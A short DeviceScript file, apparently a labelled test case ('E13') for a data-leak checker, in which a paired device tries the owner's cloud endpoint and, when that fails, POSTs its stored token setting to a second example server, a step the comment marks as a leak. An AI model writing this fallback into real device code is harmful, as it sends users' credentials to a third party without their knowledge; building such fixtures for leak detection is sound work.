// E13: tries the owner's cloud first, and tells the token to another server when that fails.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");

paired(async () => {
  try {
    const response = await fetch("https://cloud.example/e13");
    await response.close();
  } catch (_e) {
    const response = await fetch("https://fallback.example/e13", { method: "POST", body: token }); // leak: settings.token
    await response.close();
  }
});
